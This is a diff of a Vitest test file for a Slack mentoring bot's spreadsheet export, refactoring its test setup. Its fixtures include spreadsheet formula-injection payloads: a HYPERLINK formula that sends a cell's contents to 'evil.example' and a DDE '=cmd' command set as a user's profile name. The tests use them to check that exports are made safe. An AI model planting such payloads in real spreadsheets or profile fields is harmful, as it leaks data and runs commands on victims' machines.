@@ -1,35 +1,25 @@
-import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
+import { beforeAll, describe, expect, it } from 'vitest';
 import { ADMINS_ONLY } from '../../src/services/access.ts';
 import type { RecordedCall } from '../helpers/fake-slack.ts';
-import { eventually, everythingSent, logValues, pairUp, submitGoal, submitLog, submitLoop } from '../helpers/flows.ts';
-import { at, PEOPLE, startTestBot, TEAM, type TestBot } from '../helpers/test-bot.ts';
+import { answered, everythingSent, logValues, pairUp, SECRETS, submitGoal, submitLog, submitLoop } from '../helpers/flows.ts';
+import { at, PEOPLE, T2, T2_ADMIN, T2_MENTEE, T2_MENTOR, TEAM, useTestBot } from '../helpers/test-bot.ts';
 
 const TODAY = '2026-11-18T14:00:00Z';
-const SECRETS = ['SECRET-NOTE', 'SECRET-TOPIC', 'SECRET-ADVICE', 'SECRET-OUTCOME', 'SECRET-COMMIT', 'SECRET-GOAL'];
 // Titles a spreadsheet would mangle or run; all with consent, so they are exported (made safe).
 const TRICKY = 'Ship v2, then "celebrate"\nwith the team';
 const HYPERLINK = '=HYPERLINK("http://evil.example/?q="&A1,"Click me")';
 const FORMULAS = [HYPERLINK, '+1 more demo', '-1 open bugs', '@SUM(A1:A10)'];
 // A Slack profile name is someone else's text too.
 const EVIL = { id: 'UEVIL0001', real_name: '=cmd|"/c calc"!A0', tz: 'UTC' };
-const T2 = 'T2';
-const T2_ADMIN = { id: 'UT2ADMIN1', real_name: 'Other Admin', is_admin: true, tz: 'UTC', team_id: T2 };
-const T2_MENTOR = { id: 'UT2MENTOR', real_name: 'Other Mentor', tz: 'UTC', team_id: T2 };
-const T2_MENTEE = { id: 'UT2MENTEE', real_name: 'Other Mentee', tz: 'UTC', team_id: T2 };
 
-let t: TestBot;
+// One program, built once; the tests only read it.
+const t = useTestBot({ now: TODAY, resetTables: false });
 let p1: number;
 let p2: number;
 
-async function ok(res: Promise<{ status: number; json: any }>): Promise<any> {
-  const r = await res;
-  expect(r.status).toBe(200);
-  await t.bot.idle();
-  return r.json;
-}
+const ok = (res: Promise<{ status: number; json: any }>) => answered(t, res);
 
 beforeAll(async () => {
-  t = await startTestBot({ now: TODAY });
   t.fake.addUser({ team_id: TEAM, ...EVIL });
   for (const u of [T2_ADMIN, T2_MENTOR, T2_MENTEE]) t.fake.addUser(u);
   const db = t.bot.database.db;
@@ -51,15 +41,6 @@ beforeAll(async () => {
   await ok(t.slack.command({ team_id: T2, text: `pair ${at(T2_MENTOR)} ${at(T2_MENTEE)}`, user_id: T2_ADMIN.id, response_url: t.fake.responseUrl() }));
   const t2Pair = (await db.selectFrom('pairs').select('id').where('team_id', '=', T2).executeTakeFirstOrThrow()).id;
   await ok(t.slack.viewSubmission({ team_id: T2, user_id: T2_MENTEE.id, callback_id: 'log_modal', private_metadata: JSON.stringify({ pairId: t2Pair }), values: logValues({ heldOn: '2026-11-17' }) }));
-});
-afterAll(async () => t?.close());
-beforeEach(() => {
-  t.clock.set(TODAY);
-  t.fake.reset();
-});
-afterEach(async () => {
-  await t.bot.idle();
-  expect(t.fake.violations).toEqual([]);
 });
 
 /** RFC 4180, independently of the bot's writer: quoted fields, doubled quotes, CRLF rows. */
@@ -202,7 +183,7 @@ describe('/mentor export', () => {
   ])('a Slack error from %s (%s) gets a clear message and shares nothing', async (method, error, message) => {
     t.fake.failNext(method, { error });
     const { followUps } = await runExport();
-    await eventually(() => expect(followUps).toHaveLength(1));
+    expect(followUps).toHaveLength(1);
     expect(followUps[0]!.args.text).toContain("I couldn't upload your export");
     expect(followUps[0]!.args.text).toContain(message);
     expect(followUps[0]!.args.text).toContain('Nothing was shared');
